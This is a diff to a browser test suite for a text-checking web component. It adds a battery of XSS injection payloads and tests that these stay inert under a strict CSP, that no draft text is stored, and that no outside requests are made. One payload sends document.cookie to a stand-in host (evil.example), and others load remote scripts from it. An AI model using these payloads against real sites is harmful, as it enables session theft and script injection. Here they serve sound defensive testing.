@@ -19,6 +19,48 @@ const PAYLOADS = [
   '<a href="javascript:alert(5)">click</a>',
   '"><b onmouseover=alert(6)>bold</b>',
 ];
+/** The full battery: HTML, attribute, URL, template, CSS and markup-breaking injections. */
+const BATTERY = [
+  ...PAYLOADS,
+  '<body onload=alert(7)>',
+  '<details open ontoggle=alert(8)>',
+  '<video><source onerror=alert(9)></video>',
+  '<audio src=x onerror=alert(10)>',
+  '<object data="javascript:alert(11)"></object>',
+  '<embed src="javascript:alert(12)">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
+  '<input autofocus onfocus=alert(14)>',
+  '<marquee onstart=alert(15)>UN</marquee>',
+  '<form action="javascript:alert(16)"><button>go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(17)">',
+  '<link rel=stylesheet href="http://evil.example/x.css">',
+  '<base href="http://evil.example/">',
+  '<style>@import "http://evil.example/y.css"; body{background:url(http://evil.example/z)}</style>',
+  '<img src="http://evil.example/pixel.gif">',
+  '<script src="http://evil.example/a.js"></script>',
+  "<img src=x onerror=\"fetch('http://evil.example/leak?'+document.cookie)\">",
+  '</textarea><script>alert(18)</script>',
+  '</script><script>alert(19)</script>',
+  '<!--<img src="--><img src=x onerror=alert(20)//">',
+  '<![CDATA[<img src=x onerror=alert(21)>]]>',
+  '${alert(22)}',
+  '{{constructor.constructor("alert(23)")()}}',
+  '<noscript><p title="</noscript><img src=x onerror=alert(24)>">',
+  '<svg><animate onbegin=alert(25) attributeName=x dur=1s>',
+  '<x contenteditable onblur=alert(26)>lose focus</x>',
+  '<div style="background:url(javascript:alert(27))">',
+  '&lt;img src=x onerror=alert(28)&gt;',
+  '\u003cimg src=x onerror=alert(29)\u003e',
+  '<scr<script>ipt>alert(30)</scr</script>ipt>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=">x</a>',
+  '<template><img src=x onerror=alert(32)></template>',
+  '<slot name=x onclick=alert(33)>',
+  '<resolint-checker value="<img src=x onerror=alert(34)>"></resolint-checker>',
+  "javascript:alert(35)//",
+  '<img src=x onerror=alert(36)>\u202E\u200B\0',
+];
+/** Tags no payload may add, counted in the document and in every shadow root. */
+const DANGEROUS = 'img, script, iframe, svg, object, embed, video, audio, source, math, input, marquee, form, meta, link, base, style, details, template, noscript, x, slot, resolint-checker, a[href^="javascript"], a[href^="data"]';
 
 let browser;
 let server;
@@ -605,12 +647,180 @@ describe('recovery after a panic in the wasm module', () => {
     await checker(page, '#portal-checker').evaluate((c) => { c.value = 'The General Assembly,\n\nPANIC_TEST'; });
     const err = page.locator('#portal-checker [role="alert"]');
     await err.waitFor({ state: 'visible' });
-    assert.match(await err.textContent(), /restarted/);
+    // The user is told, in words, in the widget's alert line (announced by screen readers).
+    assert.equal(await err.textContent(), 'The checker stopped on this text and was restarted.');
+    await shot(page, 'embed-panic-recovered.png');
     await checker(page, '#portal-checker').evaluate((c, t) => { c.value = t; }, DEFECTIVE);
     const r = await reportFor(page, DEFECTIVE, '#portal-checker');
     assert.ok(r.diagnostics.length > 0, 'checks again');
     assert.ok(!(await err.isVisible()), 'the error is cleared');
     assert.ok(log.requests.some((u) => u.endsWith('/resolint_core.js?instance=1')), 'a fresh instance was loaded');
+    await ctx.context.close();
+  });
+});
+
+describe('robustness and privacy', () => {
+  it('every built page carries a strict CSP: no unsafe-inline, no unsafe-eval, nothing remote', () => {
+    const pages = fs.readdirSync(DIST).filter((f) => f.endsWith('.html'));
+    assert.ok(pages.length >= 3, pages.join());
+    for (const f of pages) {
+      const html = fs.readFileSync(path.join(DIST, f), 'utf8');
+      const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
+      assert.ok(m, `${f} has a CSP`);
+      const csp = m[1];
+      assert.match(csp, /default-src 'none'/, f);
+      assert.match(csp, /script-src [^;]*('sha256-|'self')/, f);
+      assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|https?:|\*/, f);
+      // Every inline script the page executes is allowed by hash, not by a blanket rule.
+      const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/(?:json|octet-stream)")[^>]*>/g)];
+      if (inline.length) assert.match(csp, /'sha256-/, `${f}: inline scripts need hashes`);
+    }
+  });
+
+  it(`a battery of ${BATTERY.length} injection payloads stays inert: pasted, set as value, given as content, loaded as an example`, async () => {
+    assert.ok(BATTERY.length >= 30);
+    const all = BATTERY.join('\n');
+    const ctx = await open(`${base}/index.html`, {
+      allow: [base],
+      // The page's examples, served with one more whose title and text are the payloads.
+      setup: (context) => context.route(`${base}/index.html`, async (route) => {
+        const res = await route.fetch();
+        const extra = JSON.stringify({ id: 'xss', title: '<img src=x onerror=alert(98)>', text: all }).replace(/</g, '\\u003c');
+        const body = (await res.text()).replace('<script type="application/json" id="resolint-examples">[', `<script type="application/json" id="resolint-examples">[${extra},`);
+        assert.ok(body.includes('"id":"xss"'), 'added the example');
+        await route.fulfill({ response: res, body });
+      }),
+    });
+    const { page, log } = ctx;
+    const census = () => page.evaluate((sel) => {
+      const roots = [document, ...[...document.querySelectorAll('*')].filter((e) => e.shadowRoot).map((e) => e.shadowRoot)];
+      let dangerous = 0;
+      let handlers = 0;
+      for (const r of roots) {
+        dangerous += r.querySelectorAll(sel).length;
+        for (const e of r.querySelectorAll('*')) for (const a of e.attributes) if (/^on/i.test(a.name)) handlers++;
+      }
+      const ed = document.querySelector('resolint-checker').shadowRoot.querySelector('[part~="editor"]');
+      return { dangerous, handlers, editorElements: ed.querySelectorAll('*').length, checkers: document.querySelectorAll('resolint-checker').length };
+    }, DANGEROUS);
+    const before = await census();
+    for (const p of BATTERY) {
+      await typeInto(page, '');
+      await pasteHtml(page, p, p);
+      await page.waitForFunction((t) => document.querySelector('resolint-checker').value === t, p);
+      const c = await census();
+      assert.ok(c.editorElements <= 1, `pasted ${p}: no element in the editor`);
+      await checker(page).evaluate((el, t) => { el.value = t; }, `The General Assembly,\n\n${p}\n`);
+      assert.equal((await reportFor(page, `The General Assembly,\n\n${p}\n`)).version.length > 0, true);
+    }
+    // All at once, as the element's content and as an example from the page's menu.
+    const fromContent = await page.evaluate((t) => {
+      const el = document.createElement('resolint-checker');
+      el.id = 'xss-content';
+      el.textContent = t;
+      document.body.append(el);
+      return el.check().then((r) => { const v = el.value; el.remove(); return { v, n: r.diagnostics.length }; });
+    }, all);
+    assert.equal(fromContent.v, all.replace(/^\s*\n/, '').replace(/\s+$/, ''));
+    await page.selectOption('#example', 'xss');
+    await page.click('#load');
+    const r = await reportFor(page, all);
+    assert.ok(r.diagnostics.length >= 0);
+    // Findings quote the payloads in messages and excerpts: still text.
+    await page.locator('resolint-checker [part~="finding"] .go').first().click().catch(() => {});
+    await page.waitForTimeout(400);
+    const after = await census();
+    assert.deepEqual(after, before, 'no new element or handler in the page or the shadow root');
+    assert.deepEqual(log.dialogs, [], 'no dialog');
+    assert.deepEqual(log.external, [], 'no request');
+    assert.deepEqual(log.requests.filter((u) => u !== `${base}/index.html`), [], 'no request at all after load');
+    assert.deepEqual(log.csp, []);
+    await ctx.context.close();
+  });
+
+  it('after a session of typing, fixing and ignoring, no draft text is stored anywhere', async () => {
+    const ctx = await open(`${base}/index.html`, { allow: [base] });
+    const { page, context } = ctx;
+    await typeInto(page, DEFECTIVE);
+    await reportFor(page, DEFECTIVE);
+    await page.keyboard.press('Control+End');
+    await page.keyboard.type('\n\n3. Requests confidentially the Secretary-General to xylophonic matters.');
+    const item = page.locator('resolint-checker [part~="finding"]').first();
+    await item.locator('[part~="ignore"]').click();
+    await page.locator('resolint-checker [part~="apply-all"]').click();
+    await page.waitForTimeout(500);
+    const stored = await page.evaluate(async () => ({
+      local: Object.entries(localStorage).flat().join('\n'),
+      session: Object.entries(sessionStorage).flat().join('\n'),
+      idb: indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [],
+      caches: globalThis.caches ? await caches.keys() : [],
+    }));
+    assert.ok(stored.local.length > 0, 'the ignore marker is stored');
+    const words = new Set(((DEFECTIVE + ' confidentially xylophonic').match(/[A-Za-z]{6,}/g) || []).map((w) => w.toLowerCase()));
+    for (const w of words) {
+      assert.ok(!stored.local.toLowerCase().includes(w), `localStorage holds "${w}"`);
+      assert.ok(!stored.session.toLowerCase().includes(w), `sessionStorage holds "${w}"`);
+    }
+    assert.deepEqual(stored.idb, []);
+    assert.deepEqual(stored.caches, []);
+    assert.deepEqual(await context.cookies(), []);
+    await context.close();
+  });
+
+  it('a paste larger than the limit gets a message, changes nothing, and the editor stays usable', async () => {
+    const ctx = await open(`${base}/embed.html`, { allow: [base] });
+    const { page, log } = ctx;
+    const sel = '#portal-checker';
+    await typeInto(page, DEFECTIVE, sel);
+    await reportFor(page, DEFECTIVE, sel);
+    const max = await page.evaluate(() => import('./resolint.js').then((m) => m.MAX_LENGTH));
+    assert.equal(max, 20 * 1024 * 1024);
+    await page.locator(`${sel} [part~="editor"]`).click();
+    await page.evaluate(([s, n]) => {
+      const ed = document.querySelector(s).shadowRoot.querySelector('[part~="editor"]');
+      const dt = new DataTransfer();
+      dt.setData('text/plain', 'The General Assembly, '.repeat(Math.ceil(n / 22)));
+      ed.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true, composed: true }));
+    }, [sel, max + 1]);
+    const err = page.locator(`${sel} [role="alert"]`);
+    await err.waitFor({ state: 'visible' });
+    assert.match(await err.textContent(), /too long to check here: [\d,]+ characters, the limit is 20,971,520/);
+    assert.equal(await checker(page, sel).evaluate((c) => c.value), DEFECTIVE, 'the text is unchanged');
+    await shot(page, 'embed-too-long.png');
+    // Setting value beyond the limit is refused the same way.
+    await checker(page, sel).evaluate((c, n) => { c.value = 'x'.repeat(n); }, max + 10);
+    assert.equal(await checker(page, sel).evaluate((c) => c.value), DEFECTIVE);
+    // Still usable: typing checks again and clears the message.
+    await typeInto(page, 'The General Assembly,\n\n1. request the Secretary-General to report.', sel);
+    const r = await reportFor(page, 'The General Assembly,\n\n1. request the Secretary-General to report.', sel);
+    assert.ok(r.diagnostics.length > 0);
+    assert.ok(!(await err.isVisible()), 'the message is cleared by the next check');
+    assert.deepEqual(log.errors, []);
+    await shot(page, 'embed-after-too-long.png');
+    await ctx.context.close();
+  });
+
+  it("the worker's requests are counted too: only the widget's own files, nothing outside", async () => {
+    const ctx = await open(`${base}/embed.html`, { allow: [base] });
+    const { page, log } = ctx;
+    const workers = [];
+    page.on('worker', (w) => workers.push(w));
+    await reportFor(page, '', '#portal-checker');
+    const atLoad = log.requests.length;
+    const big = (DEFECTIVE + '\n').repeat(Math.ceil(30000 / DEFECTIVE.length));
+    await checker(page, '#portal-checker').evaluate((c, t) => { c.value = t; }, big);
+    await page.waitForFunction((n) => document.getElementById('portal-checker').lastCheck?.length === n, big.length, { timeout: 30000 });
+    assert.equal(await checker(page, '#portal-checker').evaluate((c) => c.lastCheck.worker), true);
+    assert.equal(workers.length, 1, 'one worker');
+    const afterLoad = log.requests.slice(atLoad).map((u) => new URL(u).pathname);
+    assert.ok(afterLoad.includes('/resolint-worker.js'), `the worker's own script request is seen: ${afterLoad}`);
+    for (const u of afterLoad) assert.ok(['/resolint-worker.js', '/resolint_core.js', '/resolint_core_bg.wasm'].includes(u), `unexpected request ${u}`);
+    assert.deepEqual(log.external, []);
+    // A request made from inside the worker would be caught and counted (and blocked).
+    await workers[0].evaluate(() => fetch('http://evil.example/from-worker').catch(() => 'blocked'));
+    await page.waitForTimeout(200);
+    assert.ok(log.external.length >= 1, 'the worker\'s request was seen');
+    assert.ok(log.external.every((u) => u === 'http://evil.example/from-worker'), log.external.join());
     await ctx.context.close();
   });
 });
